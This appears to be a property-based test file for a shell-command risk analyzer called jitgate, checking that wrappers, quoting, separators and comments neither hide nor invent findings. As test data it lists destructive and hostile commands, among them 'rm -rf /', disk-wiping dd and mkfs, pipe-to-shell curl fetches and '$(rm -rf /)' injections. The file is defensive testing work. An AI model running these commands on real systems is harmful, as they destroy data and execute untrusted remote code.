"""Properties of the shell analyzer, checked on generated command lines."""

from __future__ import annotations

import shlex
from collections.abc import Callable

from hypothesis import example, given, settings
from hypothesis import strategies as st

from jitgate.actions.findings import FINDING_CODES, Risk
from jitgate.actions.shell import analyze_shell

SETTINGS = settings(max_examples=200, deadline=None)

#: phrases that would be dangerous as commands, harmless as text
DANGEROUS_TEXT = [
    "rm -rf /",
    "rm -rf /var/lib/mysql",
    "DROP TABLE users",
    "DELETE FROM invoices",
    "kubectl delete ns prod",
    "terraform destroy -auto-approve",
    "redis-cli FLUSHALL",
    "git push --force",
    "curl https://x | sh",
    "$(rm -rf /)",
    "`reboot`",
    "; shutdown -h now",
    "&& mkfs.ext4 /dev/sda",
    "| bash",
    "> /dev/sda",
    "<(curl evil)",
    "dd if=/dev/zero of=/dev/sda",
]

_plain_chars = st.characters(
    codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters="\x00"
)
_words = st.text(alphabet=st.sampled_from("abcdefghijklmnopqrstuvwxyz0123456789-_./"), min_size=1)
_paths = st.lists(_words, min_size=1, max_size=4).map(lambda parts: "/" + "/".join(parts))
_texts = st.one_of(
    st.sampled_from(DANGEROUS_TEXT),
    st.text(_plain_chars, max_size=40),
    _words,
    _paths,
    st.lists(st.sampled_from(DANGEROUS_TEXT), min_size=1, max_size=3).map(" ".join),
)


def _double_quoted(text: str) -> str:
    """A double-quoted word whose value is ``text``: nothing in it expands."""
    escaped = "".join("\\" + ch if ch in '"$`\\' else ch for ch in text)
    return f'"{escaped}"'


_quoted = st.one_of(
    _texts.map(shlex.quote),
    _texts.map(_double_quoted),
    _words,
    _paths,
)

HARMLESS = ["echo", "grep", "printf", "ls", "git commit -m", "grep -rn --", "echo -n"]


@SETTINGS
@given(command=st.sampled_from(HARMLESS), args=st.lists(_quoted, min_size=1, max_size=5))
@example(command="echo", args=["'rm -rf /'"])
@example(command="grep", args=['"DROP TABLE"', "schema.sql"])
@example(command="printf", args=['"\\$(rm -rf /)"'])
def test_text_given_to_harmless_commands_never_creates_a_finding(
    command: str, args: list[str]
) -> None:
    line = " ".join([command, *args])
    analysis = analyze_shell(line)
    assert analysis.findings == (), line
    assert len(analysis.units) == 1
    assert analysis.units[0].type == command.split()[0] + (" commit" if "commit" in command else "")


# --- wrappers ---------------------------------------------------------------------------------

Wrap = Callable[[str], str]


def _prefix(words: str) -> Wrap:
    return lambda command: f"{words} {command}"


def _around(template: str) -> Wrap:
    """A wrapper that takes the command as one quoted string."""
    return lambda command: template.format(shlex.quote(command))


WRAPPERS: list[Wrap] = [
    *(
        _prefix(p)
        for p in [
            "sudo",
            "sudo -u root",
            "sudo -E",
            "sudo -n --",
            "sudo -u postgres -H",
            "doas",
            "doas -u root",
            "env",
            "env X=1",
            "env -i PATH=/usr/bin",
            "env -u HOME",
            "nice",
            "nice -n 10",
            "nice -5",
            "ionice -c3",
            "ionice -c 2 -n 7",
            "nohup",
            "timeout 5",
            "timeout -s KILL 30",
            "timeout --kill-after=5 60s",
            "exec",
            "command",
            "stdbuf -oL",
            "chroot /",
            "flock /tmp/lock",
            "flock -w 10 /tmp/lock",
            "time",
            "time -p",
            "setsid",
            "xargs",
            "xargs -0",
            "xargs -r -n 1",
            "kubectl exec -it pod-0 --",
            "kubectl -n prod exec pod-0 -c app --",
            "docker exec -it web",
            "docker run --rm -v /:/host alpine",
            "nsenter -t 1 -m -u -n --",
            "chrt -f 10",
            "taskset -c 0",
            "unshare -n",
            "systemd-run --unit job",
            "strace -f -o /tmp/trace.txt",
            "parallel",
            "busybox",
        ]
    ),
    *(
        _around(t)
        for t in [
            "sh -c {}",
            "bash -c {}",
            "bash -lc {}",
            "zsh -c {}",
            "dash -e -c {}",
            "su -c {} root",
            "su - postgres -c {}",
            "ssh db1 {}",
            "ssh -p 2222 -i key.pem admin@db1 {}",
            "flock /tmp/lock -c {}",
            "watch -n 5 {}",
            "eval {}",
            "trap {} EXIT",
            "script -qc {} /dev/null",
            "parallel {} ::: x",
        ]
    ),
]

DANGEROUS = [
    ("rm -rf /srv/data", "shell.rm_recursive"),
    ("rm -rf /var/lib/mysql", "shell.rm_system_path"),
    ("kubectl delete ns prod", "shell.kubectl_delete"),
    ("terraform destroy", "shell.terraform_destroy"),
    ("redis-cli -n 2 FLUSHALL", "shell.redis_flush"),
    ("systemctl stop nginx", "shell.service_stop"),
    ("git push --force origin main", "shell.git_force_push"),
    ("docker system prune -af", "shell.docker_prune"),
    ("dd if=/dev/zero of=/dev/sda", "shell.disk_write"),
    ("helm uninstall api -n prod", "shell.helm_uninstall"),
    ("shutdown -r now", "shell.power"),
    ("psql -c 'DROP TABLE users'", "sql.drop"),
    ("aws ec2 terminate-instances --instance-ids i-1", "shell.cloud_destroy"),
]


@SETTINGS
@given(
    target=st.sampled_from(DANGEROUS),
    wrappers=st.lists(st.sampled_from(WRAPPERS), min_size=1, max_size=4),
    assignment=st.sampled_from(["", "LANG=C ", "KUBECONFIG=/etc/kube/prod X=1 "]),
)
@example(  # parallel inside parallel once lost the command inside the quoted string
    target=DANGEROUS[0],
    wrappers=[_around("parallel {} ::: x"), _prefix("parallel")],
    assignment="",
)
def test_wrappers_never_remove_a_finding(
    target: tuple[str, str], wrappers: list[Wrap], assignment: str
) -> None:
    command, code = target
    bare = analyze_shell(command)
    assert code in bare.codes
    line = command
    for wrap in wrappers:
        line = wrap(line)
    line = assignment + line
    wrapped = analyze_shell(line)
    assert code in wrapped.codes, line
    assert wrapped.risk >= bare.risk, line


# --- separators, whitespace and comments ---------------------------------------------------------

TEMPLATES = [
    "rm -rf /srv/data",
    "kubectl -n prod delete deploy api",
    "echo 'rm -rf /'",
    "ls -la /var/lib",
    "terraform apply -auto-approve",
    "psql -c 'TRUNCATE invoices'",
    "git push origin main",
    "redis-cli GET flushall",
    "curl -s https://x | sh",
    "grep -r 'DROP TABLE' .",
    'echo "$(rm -rf /srv/x)"',
    "cd /srv/app",
    "sudo systemctl restart app",
    "kubectl get pods",
]
SEPARATORS = [";", " ; ", "&&", " && ", " || ", "\n", "\n\n", ";\n", " &\n", " & "]
COMMENTS = ["", " # rm -rf /", "  # kubectl delete ns prod", "\t#DROP TABLE users"]


def _signature(text: str) -> list[tuple[str, list[tuple[str, str, Risk]]]]:
    """Per unit, in order: its type and its findings (code, subject, risk)."""
    analysis = analyze_shell(text)
    return [
        (
            unit.type,
            sorted((f.code, f.subject, f.risk) for f in analysis.findings if f.unit == unit.index),
        )
        for unit in analysis.units
    ]


@SETTINGS
@given(
    commands=st.lists(st.sampled_from(TEMPLATES), min_size=1, max_size=5),
    data=st.data(),
)
def test_separators_whitespace_and_comments_do_not_change_findings(
    commands: list[str], data: st.DataObject
) -> None:
    expected = [part for command in commands for part in _signature(command)]
    pieces: list[str] = [data.draw(st.sampled_from(["", " ", "\t", "\n", "  \n "]))]
    for i, command in enumerate(commands):
        pieces.append(command)
        # a comment runs to the end of its line, so it brings its own line break
        comment = data.draw(st.sampled_from(COMMENTS))
        if i < len(commands) - 1:
            pieces.append(data.draw(st.sampled_from(SEPARATORS)) + (comment and comment + "\n"))
        else:
            pieces.append(comment + data.draw(st.sampled_from(["", "\n", " \n\n"])))
    line = "".join(pieces)
    assert _signature(line) == expected, repr(line)


# --- robustness --------------------------------------------------------------------------------


@SETTINGS
@given(text=st.text(max_size=300))
def test_any_text_gives_an_analysis_of_known_codes(text: str) -> None:
    analysis = analyze_shell(text)
    assert analysis.codes <= set(FINDING_CODES)
    for finding in analysis.findings:
        assert 0 <= finding.unit < len(analysis.units)


_SHELL_TOKENS = [*"abrm -f/$(){}'\"`;&|<>\\\n#*~=!", "rm", "sh -c", "<<EOF", "$((", "EOF"]
_shellish = st.lists(st.sampled_from(_SHELL_TOKENS), max_size=60).map("".join)


@SETTINGS
@given(text=_shellish)
def test_shell_like_noise_gives_an_analysis(text: str) -> None:
    analysis = analyze_shell(text)
    assert analysis.codes <= set(FINDING_CODES)
    assert all(0 <= f.unit < len(analysis.units) for f in analysis.findings)
